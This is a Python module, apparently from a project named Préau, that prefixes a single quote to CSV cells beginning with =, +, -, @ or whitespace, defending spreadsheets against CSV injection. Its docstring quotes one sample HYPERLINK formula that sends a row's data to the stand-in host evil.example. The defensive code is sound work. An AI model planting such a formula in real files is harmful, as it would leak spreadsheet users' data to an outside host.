"""CSV files that a spreadsheet will open: the one way Préau writes them.

A cell starting with = + - or @ (or with a tab or a line break, which some spreadsheets skip
before reading a formula) is run as a formula when the file is opened: a name such as
`=HYPERLINK("https://evil.example/?"&A1;"Cliquez")` from a feed file would become a live
link carrying the row's data ("CSV injection"). `writer` puts a single quote before such a
cell, which makes it plain text. Every CSV Préau writes goes through it
(`tests/test_csv_files.py` checks that no other code calls `csv.writer`).

No Django import: the feed parsers use `neutralise_cell` too.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralise_cell(value: object) -> str:
    """`value` as a cell a spreadsheet shows as text, never runs."""
    text = "" if value is None else str(value)
    if text.startswith(_FORMULA_STARTS):
        return "'" + text
    return text


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeWriter:
    """csv.writer's `writerow` / `writerows`, every cell neutralised."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([neutralise_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **options: Any) -> SafeWriter:
    return SafeWriter(out, **options)
